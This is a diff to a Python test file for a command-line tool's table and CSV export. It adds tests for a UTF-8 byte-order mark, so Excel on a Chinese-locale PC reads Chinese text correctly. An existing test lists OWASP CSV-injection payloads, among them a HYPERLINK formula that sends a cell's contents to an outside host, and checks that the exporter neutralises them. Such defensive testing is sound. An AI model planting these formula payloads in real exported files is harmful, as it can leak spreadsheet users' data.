@@ -1,6 +1,7 @@
 """The commands' tables never shorten a cell to "…": ids stay whole, other cells fold, and a
 table whose ids leave the others too little room is printed wider than the terminal."""
 
+import codecs
 import csv
 import io
 from datetime import UTC, datetime
@@ -165,17 +166,45 @@ def test_a_table_piped_keeps_every_cell_whole_on_its_lines(
     assert max(len(line) for line in asked.export_text().splitlines()) <= 100
 
 
-def csv_printed(capsys: pytest.CaptureFixture[str], *rows: dict[str, object]) -> str:
-    """What ``--csv`` prints of ``rows`` under the fields ``id``, ``fen`` and ``at``."""
+def csv_printed(capsysbinary: pytest.CaptureFixture[bytes], *rows: dict[str, object]) -> str:
+    """What ``--csv`` prints of ``rows`` under the fields ``id``, ``fen`` and ``at``, read as
+    a spreadsheet reads it: its bytes decoded as UTF-8 after their byte-order mark."""
     output.as_csv(("id", "fen", "at"), rows)
-    return capsys.readouterr().out
+    return capsysbinary.readouterr().out.decode("utf-8-sig")
 
 
-def test_csv_quotes_every_text_and_leaves_numbers_bare(capsys: pytest.CaptureFixture[str]) -> None:
+def test_csv_is_utf8_after_a_byte_order_mark_for_excel(
+    capsysbinary: pytest.CaptureFixture[bytes],
+) -> None:
+    """Excel on a Chinese-locale PC reads a CSV without a byte-order mark as GBK: a seller's
+    id or a reason in Chinese came out as mojibake. The file's first bytes are UTF-8's mark,
+    then the CSV in UTF-8, a Chinese text whole when read back as Excel reads it."""
+    seller, reason = "沙湾辣椒合作社", "到货时已变质，退款"
+    output.as_csv(("id", "fen", "at"), [{"id": seller, "fen": 4200, "at": reason}])
+    printed = capsysbinary.readouterr().out
+    assert printed.startswith(codecs.BOM_UTF8), printed[:16]
+    whole = f'"id","fen","at"\r\n"{seller}",4200,"{reason}"\r\n'
+    assert printed == codecs.BOM_UTF8 + whole.encode(), printed
+    read = list(csv.DictReader(io.StringIO(printed.decode("utf-8-sig"), newline="")))
+    assert read == [{"id": seller, "fen": "4200", "at": reason}], read
+
+
+def test_csv_is_utf8_whatever_stdouts_encoding(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A server whose locale is not UTF-8 (stdout in ISO 8859-1) writes the same bytes: a
+    Chinese id crashed its text stdout, which cannot encode it."""
+    written = io.BytesIO()
+    monkeypatch.setattr("sys.stdout", io.TextIOWrapper(written, encoding="latin-1"))
+    output.as_csv(("id",), [{"id": "农户-0001"}])
+    assert written.getvalue() == codecs.BOM_UTF8 + '"id"\r\n"农户-0001"\r\n'.encode()
+
+
+def test_csv_quotes_every_text_and_leaves_numbers_bare(
+    capsysbinary: pytest.CaptureFixture[bytes],
+) -> None:
     """RFC 4180 (CRLF, a quote doubled, a comma or a line break inside quotes), a text quoted
     even without them (a spreadsheet that splits on ";" keeps "a;b" one cell), fen bare."""
     printed = csv_printed(
-        capsys,
+        capsysbinary,
         {"id": 'b-1, "the shop"\non two lines', "fen": 4200, "at": "2026-12-07T02:21:00+00:00"},
         {"id": "a;b", "fen": -500, "at": None, "kept": "not a field"},
         {"id": "older-server", "fen": 0},  # a field it lacks: empty
@@ -199,11 +228,11 @@ def test_csv_quotes_every_text_and_leaves_numbers_bare(capsys: pytest.CaptureFix
     "text", ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2-3", "@SUM(A1)", "\t=1", "\r=1"]
 )
 def test_csv_writes_a_text_a_spreadsheet_would_compute_as_text(
-    capsys: pytest.CaptureFixture[str], text: str
+    capsysbinary: pytest.CaptureFixture[bytes], text: str
 ) -> None:
     """OWASP's CSV Injection: a text that begins with = + - @, a tab or a carriage return,
     after a "'", which a spreadsheet shows and does not compute; a number is not touched."""
-    printed = csv_printed(capsys, {"id": text, "fen": -5, "at": f"x{text}"})
+    printed = csv_printed(capsysbinary, {"id": text, "fen": -5, "at": f"x{text}"})
     (row,) = csv.DictReader(io.StringIO(printed, newline=""))
     assert row == {"id": f"'{text}", "fen": "-5", "at": f"x{text}"}
 
@@ -211,14 +240,14 @@ def test_csv_writes_a_text_a_spreadsheet_would_compute_as_text(
 def test_csv_of_no_rows_is_its_header_alone(capsys: pytest.CaptureFixture[str]) -> None:
     output.as_csv(("id", "fen"), [], left=None)
     captured = capsys.readouterr()
-    assert (captured.out, captured.err) == ('"id","fen"\r\n', "")
+    assert (captured.out, captured.err) == ('\ufeff"id","fen"\r\n', "")
 
 
 def test_csv_says_on_stderr_what_limit_left_out(capsys: pytest.CaptureFixture[str]) -> None:
     title = output.listed_title(1, "loan(s)", True)
     output.as_csv(("id",), [{"id": "l-1"}], left=title)
     captured = capsys.readouterr()
-    assert captured.out == '"id"\r\n"l-1"\r\n'
+    assert captured.out == '\ufeff"id"\r\n"l-1"\r\n'
     assert captured.err == "the newest 1 loan(s): more with a higher --limit\n"
 
 
